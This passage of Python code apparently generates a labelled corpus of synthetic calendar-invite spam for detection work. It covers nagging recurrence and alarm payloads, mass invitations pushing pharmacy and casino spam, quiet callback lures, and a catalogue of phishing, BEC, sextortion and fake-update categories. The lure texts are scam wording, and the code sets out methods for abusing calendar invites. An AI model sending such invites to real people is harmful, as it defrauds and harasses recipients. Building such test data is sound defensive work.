    lang = rng.choice(['en', 'en', 'de', 'ru', 'zh', 'fr', 'ja'])
    key = rng.choice(['acct', 'prize', 'inv', 'sale'])
    if key not in S[lang]:
        lang = 'en'
    when = arrival(rng, 2016, 2026)
    url = lure_url(rng)
    text = fill(lang, key, a=money(rng, lang, 50, 500, cents=False), pct=rng.choice([50, 80, 90])) + '\n' + url
    title = text.split('.')[0].split('!')[0].split('！')[0][:50]
    style = ['minutely', 'alarms', 'future', 'daily', 'todo', 'hourly', 'alarms', 'future'][(n - 1) % 8]
    kw = {}
    if style == 'minutely':
        kw['rrule'] = 'FREQ=MINUTELY;INTERVAL=%d' % rng.choice([5, 10, 15])
    elif style == 'hourly':
        kw['rrule'] = 'FREQ=HOURLY'
        kw['alarms'] = ['PT0M', '-PT5M']
    elif style == 'daily':
        kw['rrule'] = 'FREQ=DAILY;INTERVAL=1'
        kw['alarms'] = ['-PT%dM' % m for m in (1, 5, 10, 15, 30)]
    elif style == 'alarms':
        kw['alarms'] = ['-PT%dM' % m for m in range(0, 60, 3)]
        kw['rrule'] = 'FREQ=WEEKLY;BYDAY=MO,TU,WE,TH,FR,SA,SU'
    elif style == 'todo':
        kw['comp'] = 'VTODO'
        kw['alarms'] = ['-PT1M', '-PT2M', '-PT3M', '-PT4M', '-PT5M']
        kw['rrule'] = 'FREQ=DAILY'
    days = (0, 1) if style != 'future' else (365 * rng.randint(30, 70), 365 * rng.randint(71, 80))
    setup = rng.choice(['gmail', 'icloud', 'noauth', 'yahoo'])
    nm = rng.choice(['Reminder', 'Notice', person(rng, 'en')])
    fa = free_addr(rng, setup, person(rng, 'en')) if setup != 'noauth' else 'alert@' + org_domain(rng, 'test')
    frm = (nm, fa)
    to = [recipient(rng, lang)]
    ev = mkev(rng, when, title, text, frm, victim_atts(to), lang, days=days, **kw)
    if style == 'future':
        ev['alarms'] = ['-P%dD' % (365 * rng.randint(30, 60)), '-PT15M']
    ev['alarm_text'] = title
    return spec(rng, lang, setup, frm, to, title, ev, when, desc='nagging payload: %s' % {'minutely': 'minutely recurrence, no end', 'hourly': 'hourly recurrence with alarms', 'daily': 'daily, five alarms', 'alarms': 'twenty alarms, daily', 'todo': 'recurring VTODO with many alarms', 'future': 'event decades in the future with alarm'}[style])


# ------------------------------------------------------------------ 14 mass invitations to many unrelated attendees
def mass(rng, n):
    lang = rng.choice(['en', 'en', 'en', 'ru', 'zh', 'ja', 'ko', 'es', 'de', 'hi', 'tr', 'ar'])
    when = arrival(rng, 2016, 2026)
    topic = rng.choice(['pharmacy', 'casino', 'loan', 'replica', 'seo', 'weight'])
    url = lure_url(rng)
    T = {'pharmacy': ('Cheap meds online – no prescription', 'Viagra, Cialis, Xanax from $0.89 per pill. Discreet worldwide delivery.'),
         'casino': ('500 free spins + 200% bonus', 'Register today and get 500 free spins. Instant withdrawals.'),
         'loan': ('Approved: personal loan up to $5,000', 'Bad credit OK. Money in your account in 1 hour.'),
         'replica': ('Swiss replica watches -85%', 'Top quality replica watches, 1:1 copies, free shipping.'),
         'seo': ('Rank #1 on Google in 7 days', 'Guaranteed first page. 10,000 backlinks for $49.'),
         'weight': ('Lose 12 kg in 3 weeks', 'Doctors hate this simple trick. Order the keto capsules today.')}[topic]
    if lang != 'en' and topic in ('casino', 'loan') and lang in ('ru', 'zh', 'ja', 'ko', 'es', 'de', 'hi', 'tr', 'ar'):
        T = {'ru': ('Бонус 200% и 500 фриспинов', 'Регистрируйтесь сегодня и получите 500 бесплатных вращений. Мгновенный вывод.'),
             'zh': ('注册即送500次免费旋转', '今日注册即享200%首存奖金，秒到账。'),
             'ja': ('今なら500回フリースピン', '本日登録で入金ボーナス200%。出金は即時。'),
             'ko': ('가입 즉시 500 프리스핀', '오늘 가입하면 첫 입금 200% 보너스. 즉시 출금.'),
             'es': ('500 tiradas gratis + bono del 200 %', 'Regístrate hoy y consigue 500 tiradas gratis. Retiros al instante.'),
             'de': ('500 Freispiele + 200 % Bonus', 'Heute registrieren und 500 Freispiele sichern. Sofortige Auszahlung.'),
             'hi': ('500 फ़्री स्पिन + 200% बोनस', 'आज ही रजिस्टर करें और 500 फ़्री स्पिन पाएँ। तुरंत निकासी।'),
             'tr': ('500 bedava dönüş + %200 bonus', 'Bugün kaydolun, 500 bedava dönüş kazanın. Anında çekim.'),
             'ar': ('500 دورة مجانية + مكافأة 200%', 'سجّل اليوم واحصل على 500 دورة مجانية. سحب فوري.')}[lang]
    else:
        lang = 'en' if lang not in ('en',) and topic not in ('casino', 'loan') else lang
    title, line = T
    k = rng.choice([45, 80, 120, 200, 300])
    others = many(rng, k, lang)
    setup = rng.choice(['gmail', 'icloud', 'outlookcom', 'noauth', 'yahoo'])
    nm = person(rng, 'en')
    fa = free_addr(rng, setup, nm) if setup != 'noauth' else 'promo@' + org_domain(rng, 'test')
    frm = (nm, fa)
    to = [recipient(rng, lang)]
    atts = victim_atts(to, others)
    rng.shuffle(atts)
    ev = mkev(rng, when, title, line + '\n' + url, frm, atts, lang, days=(0, 4))
    if rng.random() < 0.5:
        ev['loc'] = url
    return spec(rng, lang, setup, frm, to, title, ev, when, desc='mass invitation, %d unrelated attendees (%s)' % (k + 1, topic), to_show=rng.choice([1, 5, 12]), tos=atts)


# ------------------------------------------------------------------ 15 quiet lures: short, polite, no link, real account
def quiet(rng, n):
    lang = L(rng, 'quiet', 0.5, ['de', 'fr', 'es', 'it', 'nl', 'sv', 'ja'])
    when = arrival(rng, 2018, 2026)
    ph = phone(rng, lang)
    variant = n % 3
    if variant == 0:
        text = fill(lang, 'quiet', p=ph)
        what = 'short callback request with only a phone number'
    elif variant == 1:
        lang = 'en'
        text = rng.choice(['Hi, are you free for a quick call today? I have a small favour to ask. Please reply with your WhatsApp number.',
                           'Hello, just checking you got my last email about the outstanding payment. Can you confirm when it will be processed?',
                           'Good morning, I tried to reach you regarding your account. Kindly reply to this invite with a good time to call.'])
        what = 'polite reply request from an authenticated free-mail account'
    else:
        lang = 'en'
        text = rng.choice(['Please call me at %s when you see this. Thanks.' % ph, 'Can you ring me on %s? Need to sort the invoice today.' % ph])
        what = 'one-line call request, phone number, no link'
    title = rng.choice({'en': ['Quick call', 'Follow up', 'Call back', 'Invoice query', 'Catch up?'], 'de': ['Rückruf', 'Kurze Frage'], 'fr': ['Rappel', 'Votre dossier'],
                        'es': ['Llamada', 'Su expediente'], 'it': ['Richiamata', 'La sua pratica'], 'nl': ['Terugbellen', 'Uw dossier'], 'sv': ['Återkoppling'], 'ja': ['お電話のお願い']}[lang])
    setup = rng.choice(['gmail', 'outlookcom', 'partner', 'icloud', 'yahoo'])
    nm = person(rng, lang)
    fa = free_addr(rng, setup, nm) if setup != 'partner' else fake_addr(rng, nm, org_domain(rng))
    frm = (nm, fa)
    to = [recipient(rng, lang)]
    ev = mkev(rng, when, title, text, frm, victim_atts(to), lang, days=(0, 1), dur=15)
    return spec(rng, lang, setup, frm, to, title, ev, when, desc=what + (', compromised partner mailbox' if setup == 'partner' else ''))


SPAM_CATS = {
    'retail-wave': (10, retail, 'Retail sale waves in the style of the 2016 iCloud calendar spam: sunglasses, bags, boots, sent from iCloud accounts to long invitee lists.'),
    'prize-survey': (10, prize, 'Prize, loyalty survey and gift-card lures naming big retailers; links to hosted forms, shorteners and redirectors.'),
    'crypto-invest': (10, crypto, 'Crypto withdrawals, AI-trading returns and doubling giveaways, often from Microsoft 365 trial tenants; links in DESCRIPTION, URL, CONFERENCE or LOCATION.'),
    'dating-sextortion': (10, dating, 'Dating lures with photo links, and sextortion demanding bitcoin (some with From equal to the recipient).'),
    'fee-scam': (12, fees, 'Parcel customs fees, unpaid tolls, tax refunds and parking fines; spoofed carriers/agencies from VPSes, look-alike domains, payload sometimes only in the .ics or in X-ALT-DESC.'),
    'phish-brand': (14, phish, 'Credential phishing impersonating Microsoft 365, DocuSign, PayPal, Adobe, banks and public services; spoofs fail authentication, look-alikes pass with their own DKIM.'),
    'callback': (12, callback, 'Tech-support and renewal callback scams: fake invoices whose only payload is a phone number, sent from authenticated free-mail accounts.'),
    'fake-update': (10, fakeupd, 'Fake browser/Teams/Zoom updates and "press Win+R and paste this" lures.'),
    'bec': (14, bec, 'Business e-mail compromise: CEO fraud, gift cards, vendor bank-detail change (look-alike and really compromised supplier mailboxes), payroll diversion.'),
    'advance-fee': (8, advance, 'Inheritance/compensation advance-fee fraud asking for a reply.'),
    'task-job': (10, taskjob, 'Task and part-time job scams that move victims to WhatsApp/Telegram/LINE/WeChat/KakaoTalk.'),
    'doc-share': (12, docshare, 'Document-share lures from compromised partner mailboxes that pass DKIM, SPF and DMARC.'),
    'nagging': (8, nagging, 'Nagging payloads: endless minutely/hourly/daily recurrence, many alarms, events decades in the future, a recurring VTODO.'),
    'mass-invite': (10, mass, 'Invitations to 46-301 unrelated attendees: pharmacy, casino, loans, replicas, SEO, diet pills.'),
    'quiet-lure': (10, quiet, 'Hard cases: short polite messages with no link, just a phone number or a request to reply, from real authenticated accounts.'),
}
